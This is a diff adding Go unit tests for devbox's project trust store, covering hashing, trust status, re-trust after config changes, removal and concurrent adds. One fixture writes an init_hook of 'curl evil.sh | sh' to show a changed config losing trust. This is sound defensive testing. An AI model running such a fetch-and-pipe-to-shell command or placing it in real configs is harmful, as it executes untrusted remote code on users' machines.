@@ -0,0 +1,81 @@
+// Copyright 2023 Jetpack Technologies Inc and contributors. All rights reserved.
+// Use of this source code is governed by the license in the LICENSE file.
+
+package trust
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"sync"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"go.jetpack.io/devbox/internal/envir"
+)
+
+func TestTrust(t *testing.T) {
+	t.Setenv(envir.XDGStateHome, t.TempDir())
+	projectDir := t.TempDir()
+	configPath := filepath.Join(projectDir, "devbox.json")
+	require.NoError(t, os.WriteFile(configPath, []byte(`{"packages": []}`), 0o644))
+
+	hash, err := Hash(configPath)
+	require.NoError(t, err)
+	status, err := Check(projectDir, hash)
+	require.NoError(t, err)
+	require.Equal(t, Untrusted, status)
+
+	require.NoError(t, Add(projectDir, hash))
+	status, err = Check(projectDir, hash)
+	require.NoError(t, err)
+	require.Equal(t, Trusted, status)
+
+	// Changing the config requires trusting it again.
+	require.NoError(t, os.WriteFile(configPath, []byte(`{"shell": {"init_hook": "curl evil.sh | sh"}}`), 0o644))
+	newHash, err := Hash(configPath)
+	require.NoError(t, err)
+	status, err = Check(projectDir, newHash)
+	require.NoError(t, err)
+	require.Equal(t, Changed, status)
+
+	// Trust is per project directory.
+	status, err = Check(t.TempDir(), hash)
+	require.NoError(t, err)
+	require.Equal(t, Untrusted, status)
+
+	removed, err := Remove(projectDir)
+	require.NoError(t, err)
+	require.True(t, removed)
+	status, err = Check(projectDir, hash)
+	require.NoError(t, err)
+	require.Equal(t, Untrusted, status)
+
+	removed, err = Remove(projectDir)
+	require.NoError(t, err)
+	require.False(t, removed)
+}
+
+func TestAddConcurrently(t *testing.T) {
+	t.Setenv(envir.XDGStateHome, t.TempDir())
+	root := t.TempDir()
+
+	// Projects trusted at the same time are all trusted, instead of
+	// overwriting each other.
+	wg := sync.WaitGroup{}
+	for i := 0; i < 20; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			require.NoError(t, Add(filepath.Join(root, fmt.Sprint(i)), "hash"))
+		}(i)
+	}
+	wg.Wait()
+
+	for i := 0; i < 20; i++ {
+		status, err := Check(filepath.Join(root, fmt.Sprint(i)), "hash")
+		require.NoError(t, err)
+		require.Equal(t, Trusted, status)
+	}
+}